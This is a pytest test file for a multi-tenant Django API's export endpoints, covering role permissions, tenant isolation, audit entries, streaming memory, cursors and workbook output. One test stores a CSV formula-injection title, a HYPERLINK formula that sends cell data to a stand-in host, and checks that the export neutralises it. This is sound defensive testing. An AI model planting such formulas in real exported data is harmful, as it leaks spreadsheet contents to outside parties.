"""Whole lists as files: every list, every role, audited before the first row, flat in memory, one snapshot."""

from __future__ import annotations

import csv
import io
import json
import threading
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any, cast
from uuid import UUID, uuid4

import pytest
import time_machine
from django.db import OperationalError, connection, connections
from django.test.utils import CaptureQueriesContext

from gaps.models import Gap
from projects.models import Project, WorkItem
from stratibreak.api_router import ROUTES
from tenants.api.csv_rows import guarded
from tenants.api.exports import Export
from tenants.enums import ApiScope, Role
from tenants.isolation.context import current_context
from tenants.isolation.transaction import tenant_context
from tenants.middleware import STALLED_READER
from tenants.models import AuditEntry
from tenants.permissions import Action, allowed
from tests.api.conftest import ApiClient, let_go, signed_in
from tests.api.endpoints import ENDPOINTS, Endpoint
from tests.api.test_matrix import enter_project, project_id_of, row_of
from tests.factories.gaps import GapFactory
from tests.factories.look_alike import LookAlike
from tests.factories.projects import ProjectFactory, WorkItemFactory

pytestmark = pytest.mark.django_db

each_endpoint = pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda endpoint: endpoint.name)
exported_endpoints = pytest.mark.parametrize(
    "endpoint",
    [each for each in ENDPOINTS if allowed(Role.ADMIN, Action.EXPORT, each.label)],
    ids=lambda endpoint: endpoint.name,
)
WORK_ITEMS = "/api/v1/work-items"


def body_of(answer: Any) -> bytes:
    """The whole body; the test client closes the answer at its end."""
    body: bytes = answer.getvalue()
    return body


def table_of(answer: Any) -> list[dict[str, str]]:
    """The rows of a CSV answer by the names of its columns."""
    assert answer.status_code == 200, answer.content
    assert answer["Content-Type"] == "text/csv; charset=utf-8; header=present"
    return list(csv.DictReader(io.StringIO(body_of(answer).decode("utf-8-sig"), newline="")))


def exports_in_trail(world: LookAlike, since: set[UUID]) -> list[AuditEntry]:
    with tenant_context(world.tenant.pk):
        return list(AuditEntry.objects.filter(action="EXPORT_DATA").exclude(pk__in=since).order_by("timestamp"))


@pytest.fixture
def before(ours: LookAlike, theirs: LookAlike) -> set[UUID]:
    """Exports that were in the trail before: entries that other tests committed are never removed."""
    found: set[UUID] = set()
    for world in (ours, theirs):
        found |= {entry.pk for entry in exports_in_trail(world, set())}
    return found


# Every list


@each_endpoint
def test_each_role_gets_what_the_matrix_says(
    endpoint: Endpoint, ours: LookAlike, before: set[UUID], as_role: Callable[[Role], ApiClient]
) -> None:
    got, expected = {}, {}

    for role in Role:
        answer = as_role(role).get(f"{endpoint.list_path}/export")
        got[role] = answer.status_code
        expected[role] = 200 if allowed(role, Action.EXPORT, endpoint.label) else 403
        let_go(answer)

    assert got == expected
    trail = exports_in_trail(ours, before)
    assert [entry.actor_id for entry in trail] == [ours.users[role].pk for role in Role if expected[role] == 200]


@exported_endpoints
def test_the_file_holds_what_the_list_holds_and_no_row_of_theirs(
    endpoint: Endpoint, ours: LookAlike, theirs: LookAlike, before: set[UUID], admin: ApiClient
) -> None:
    row_id = str(row_of(ours, endpoint.label).pk)
    one = admin.fetch(endpoint.item_path(row_id)).json()

    answer = admin.get(f"{endpoint.list_path}/export")
    [entry] = exports_in_trail(ours, before)
    raw = body_of(answer).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))

    by_id = {row["id"]: row for row in rows}
    assert list(by_id[row_id]) == list(one)
    assert by_id[row_id] == {name: spelled(value) for name, value in one.items()}
    own_entry = endpoint.label == "tenants.AuditEntry"  # counted before it was written
    assert len(by_id) == len(rows) == entry.changes["counts"]["exported"] + own_entry
    assert str(row_of(theirs, endpoint.label).pk) not in raw
    assert str(theirs.tenant.pk) not in raw
    assert not {"tenant", "tenant_id", "password", "credentials", "secret_digest"} & set(by_id[row_id])
    assert (entry.resource_type, entry.operation) == (endpoint.label.lower(), "read")
    assert (entry.actor_id, entry.resource_id) == (ours.users[Role.ADMIN].pk, "")
    assert exports_in_trail(theirs, before) == []


def spelled(value: Any) -> str:
    """A cell, from the value in the JSON."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, str):
        # Decimals are texts in JSON, and numbers of ours in CSV.
        return value if value.replace("-", "", 1).replace(".", "", 1).isdecimal() else guarded(value)
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


@each_endpoint
def test_a_stranger_gets_no_file(endpoint: Endpoint, ours: LookAlike) -> None:
    assert ApiClient().get(f"{endpoint.list_path}/export").status_code == 401


@each_endpoint
def test_other_methods_are_not_offered(endpoint: Endpoint, admin: ApiClient) -> None:
    methods = ("POST", "PUT", "PATCH", "DELETE")

    assert {admin.send(method, f"{endpoint.list_path}/export").status_code for method in methods} == {405}


def test_a_route_that_is_no_list_is_not_in_the_table() -> None:
    assert {endpoint.name for endpoint in ENDPOINTS} == set(ROUTES)


# Filters, order, scope


def test_filters_and_order_are_those_of_the_list(admin: ApiClient, ours: LookAlike, before: set[UUID]) -> None:
    project = ours.rows[Project]
    with tenant_context(ours.tenant.pk):
        for severity in ("LOW", "CRITICAL", "HIGH", "LOW"):
            GapFactory.create(project=project, severity=severity)
        GapFactory.create(project=ProjectFactory.create(name="Another"), severity="LOW")
    query = {"project": str(project.pk), "severity__in": "LOW,HIGH", "ordering": "-severity"}

    listed = admin.fetch("/api/v1/gaps", page_size=200, **query).json()["results"]
    rows = table_of(admin.get("/api/v1/gaps/export", query))

    assert len(rows) >= 3
    assert [row["id"] for row in rows] == [row["id"] for row in listed]
    [entry] = exports_in_trail(ours, before)
    assert entry.changes == {"counts": {"exported": len(rows)}, "format": "csv", "asked": query}


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ({"page_size": "10"}, "page_size"),
        ({"cursor": "x"}, "cursor"),
        ({"format": "ods"}, "format"),
        ({"format": "\x00"}, "format"),
        ({"ordering": "title"}, "ordering"),
        ({"severity": "NONE"}, "severity"),
        ({"statsu": "OPEN"}, "statsu"),
        ({"project": "\x00"}, "project"),
    ],
)
def test_a_parameter_that_is_not_understood_exports_nothing(
    query: dict[str, str], parameter: str, admin: ApiClient, ours: LookAlike, before: set[UUID]
) -> None:
    answer = admin.get("/api/v1/gaps/export", query)

    assert answer.status_code == 400
    assert [error["parameter"] for error in answer.json()["errors"]] == [parameter]
    assert exports_in_trail(ours, before) == []


@pytest.mark.parametrize(
    "accept", ["text/csv", "*/*", "text/*", "text/csv; charset=utf-8", "application/json, */*;q=0.1"]
)
def test_accept_may_name_the_kind_of_file(accept: str, admin: ApiClient) -> None:
    assert table_of(admin.get("/api/v1/gaps/export", headers={"Accept": accept}))


def test_a_kind_of_file_that_is_not_offered_is_a_406(admin: ApiClient, ours: LookAlike, before: set[UUID]) -> None:
    answer = admin.get("/api/v1/gaps/export", headers={"Accept": "application/json"})

    assert (answer.status_code, answer["Content-Type"]) == (406, "application/problem+json")
    assert exports_in_trail(ours, before) == []


@pytest.mark.parametrize("role", [Role.TEAM_LEADER, Role.STAKEHOLDER])
def test_a_role_that_sees_some_projects_would_export_no_others(
    role: Role, ours: LookAlike, as_role: Callable[[Role], ApiClient], monkeypatch: pytest.MonkeyPatch
) -> None:
    """No such role may export today; the scope must hold the day one may."""
    monkeypatch.setattr("tenants.api.permissions.may", lambda *_asked: True)
    seen_id = project_id_of(ours, ours.rows[Gap])
    assert seen_id is not None
    enter_project(ours, seen_id)
    with tenant_context(ours.tenant.pk):
        hidden = GapFactory.create(project=ProjectFactory.create(name="Hidden"))

    rows = table_of(as_role(role).get("/api/v1/gaps/export"))

    assert {row["project"] for row in rows} == {str(seen_id)}
    assert str(hidden.pk) not in {row["id"] for row in rows}


def test_a_key_needs_the_scope_of_exports(ours: LookAlike, key_of: Callable[..., ApiClient]) -> None:
    others = [scope for scope in ApiScope if scope is not ApiScope.EXPORT]
    with_scope, without = key_of(Role.ADMIN, ApiScope.EXPORT), key_of(Role.ADMIN, *others)

    assert table_of(with_scope.get("/api/v1/gaps/export"))
    assert with_scope.get("/api/v1/gaps").status_code == 403
    assert without.get("/api/v1/gaps/export").status_code == 403
    assert with_scope.get("/api/v1/users/export").status_code == 403


def test_the_answer_is_a_file_that_no_cache_keeps(ours: LookAlike) -> None:
    with time_machine.travel(datetime(2026, 3, 1, 23, 59, tzinfo=UTC)):
        answer = signed_in(ours.users[Role.ADMIN]).get(f"{WORK_ITEMS}/export")

    assert answer["Content-Disposition"] == 'attachment; filename="work-items-2026-03-01.csv"'
    assert answer["Cache-Control"] == "no-store"
    let_go(answer)


def test_asking_for_the_head_exports_nothing(admin: ApiClient, ours: LookAlike, before: set[UUID]) -> None:
    answer = admin.head("/api/v1/gaps/export")

    assert (answer.status_code, answer.content) == (200, b"")
    assert answer["Content-Disposition"].startswith("attachment")
    assert exports_in_trail(ours, before) == []


def test_a_formula_in_a_title_does_not_calculate(admin: ApiClient, ours: LookAlike) -> None:
    title = '=HYPERLINK("http://x.example?"&A1;"x")\n=1'
    with tenant_context(ours.tenant.pk):
        gap = GapFactory.create(project=ours.rows[Project], title=title)

    rows = {row["id"]: row for row in table_of(admin.get("/api/v1/gaps/export"))}

    assert rows[str(gap.pk)]["title"] == '\'=HYPERLINK("http://x.example?"&A1;"x")\n\'=1'
    assert admin.fetch(f"/api/v1/gaps/{gap.pk}").json()["title"] == title


# Size


@pytest.mark.parametrize("rows", [1, 3, 1_000])
def test_an_export_takes_as_many_statements_whatever_the_rows(rows: int, admin: ApiClient, ours: LookAlike) -> None:
    project = new_project(ours, rows)

    with CaptureQueriesContext(connection) as asking:
        answer = admin.get(f"{WORK_ITEMS}/export", {"project": str(project.pk)})
    with CaptureQueriesContext(connection) as reading:
        found = table_of(answer)

    assert len(found) == rows
    # Session, user, count, audit entry; then the rows.
    assert [query["sql"].split()[0] for query in asking if not _frames(query)] == [
        "SELECT",
        "SELECT",
        "SELECT",
        "INSERT",
    ]
    assert len([query for query in reading if not _frames(query)]) == 1


def _frames(query: dict[str, str]) -> bool:
    """Whether a statement opens or closes a transaction or carries the context."""
    return query["sql"].split()[0] in ("BEGIN", "COMMIT", "SAVEPOINT", "RELEASE", "SET", "ROLLBACK")


def new_project(world: LookAlike, rows: int) -> Project:
    """A further project with so many work items."""
    with tenant_context(world.tenant.pk):
        project: Project = ProjectFactory.create(name=f"Project {uuid4()}")
        WorkItem.objects.bulk_create(WorkItemFactory.build_batch(rows, project=project), batch_size=2_000)
    return project


def test_memory_is_flat_whatever_the_rows(admin: ApiClient, ours: LookAlike) -> None:
    peaks = {}
    for rows in (1_000, 10_000):
        answer = admin.get(f"{WORK_ITEMS}/export", {"project": str(new_project(ours, rows).pk)})
        size = 0
        tracemalloc.start()
        for chunk in cast("Any", answer).streaming_content:
            size += len(chunk)
        peaks[rows] = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        let_go(answer)
        assert size > 300 * rows

    assert peaks[10_000] < 1.3 * peaks[1_000]
    assert peaks[10_000] < 3_000_000


def test_the_body_reads_through_a_cursor_that_a_stalled_reader_loses(admin: ApiClient, ours: LookAlike) -> None:
    answer = admin.get(f"{WORK_ITEMS}/export", {"project": str(new_project(ours, 1_000).pk)})
    chunks = iter(cast("Any", answer).streaming_content)
    next(chunks), next(chunks)

    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors WHERE name <> ''")
        open_cursors = cursor.fetchone()
        cursor.execute("SHOW idle_in_transaction_session_timeout")
        limit = cursor.fetchone()
    let_go(answer)

    assert (open_cursors, limit) == ((1,), ("1min",))
    assert STALLED_READER == "60s"
    assert current_context() is None


def test_a_file_that_breaks_off_says_so(admin: ApiClient, ours: LookAlike, monkeypatch: pytest.MonkeyPatch) -> None:
    project = new_project(ours, 3)

    def broken(export: Export) -> Iterator[dict[str, Any]]:
        yield dict.fromkeys(export.columns, "=1")
        raise OperationalError("terminating connection")

    monkeypatch.setattr(Export, "readings", broken)
    answer = admin.get(f"{WORK_ITEMS}/export", {"project": str(project.pk)})
    parts: list[bytes] = []

    with pytest.raises(OperationalError):
        parts.extend(cast("Any", answer).streaming_content)

    assert answer["Export-Row-Count"] == "3"
    assert b"".join(parts).endswith(b'\r\n"INCOMPLETE: the export broke off here. Export again."\r\n')


# Committed data, as other connections see it


def in_another_thread(work: Callable[[], Any]) -> Any:
    """Do something over a connection of its own, to the end. Returns what it returned."""
    found: list[Any] = []

    def run() -> None:
        try:
            found.append(work())
        finally:
            connections.close_all()

    thread = threading.Thread(target=run)
    thread.start()
    thread.join(timeout=60)
    assert found, "the other connection failed or still waits"
    return found[0]


@pytest.fixture
def exporter(ours: LookAlike) -> ApiClient:
    return signed_in(ours.users[Role.ADMIN])


@pytest.mark.django_db(transaction=True)
def test_rows_written_meanwhile_neither_enter_nor_shift_the_file(ours: LookAlike, exporter: ApiClient) -> None:
    project = new_project(ours, 3_000)
    with tenant_context(ours.tenant.pk):
        expected = {str(pk) for pk in WorkItem.objects.filter(project=project).values_list("pk", flat=True)}

    def write() -> int:
        with tenant_context(ours.tenant.pk):
            items = WorkItemFactory.build_batch(500, project=project)
            removed, _ = WorkItem.objects.filter(project=project, pk=min(expected)).delete()
            return len(WorkItem.objects.bulk_create(items)) + removed

    answer = exporter.get(f"{WORK_ITEMS}/export", {"project": str(project.pk)})
    chunks = iter(cast("Any", answer).streaming_content)
    parts = [next(chunks), next(chunks)]
    written = in_another_thread(write)
    parts += chunks
    let_go(answer)

    rows = list(csv.DictReader(io.StringIO(b"".join(parts).decode("utf-8-sig"), newline="")))
    assert written == 501
    assert len(rows) == len(expected)
    assert {row["id"] for row in rows} == expected


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("chunks_read", [0, 1, 3])
def test_a_client_that_hangs_up_is_in_the_trail_and_leaves_nothing_open(
    ours: LookAlike, exporter: ApiClient, before: set[UUID], chunks_read: int
) -> None:
    project = new_project(ours, 2_000)
    answer = exporter.get(f"{WORK_ITEMS}/export", {"project": str(project.pk)})
    body: Iterator[bytes] = iter(cast("Any", answer).streaming_content)

    trail = in_another_thread(lambda: exports_in_trail(ours, before))
    for _ in range(chunks_read):
        next(body)
    let_go(answer)

    assert [entry.changes["counts"] for entry in trail] == [{"exported": 2_000}]
    assert not connection.in_atomic_block
    assert current_context() is None
    with tenant_context(ours.tenant.pk), connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors WHERE name <> ''")
        assert cursor.fetchone() == (0,)
    assert exporter.fetch(f"{WORK_ITEMS}/{uuid4()}").status_code == 404


def test_a_workbook_holds_the_same_rows_and_is_in_the_trail(
    admin: ApiClient, ours: LookAlike, theirs: LookAlike, before: set[UUID]
) -> None:
    answer = admin.get("/api/v1/gaps/export", {"format": "xlsx"})

    book = zipfile.ZipFile(io.BytesIO(body_of(answer)))
    cells = book.read("xl/worksheets/sheet1.xml").decode()
    assert answer["Content-Disposition"].endswith('.xlsx"')
    assert str(ours.rows[Gap].pk) in cells
    assert str(theirs.rows[Gap].pk) not in cells
    [entry] = exports_in_trail(ours, before)
    assert entry.changes["format"] == "xlsx"
    assert entry.changes["counts"]["exported"] == cells.count("<row ") - 1
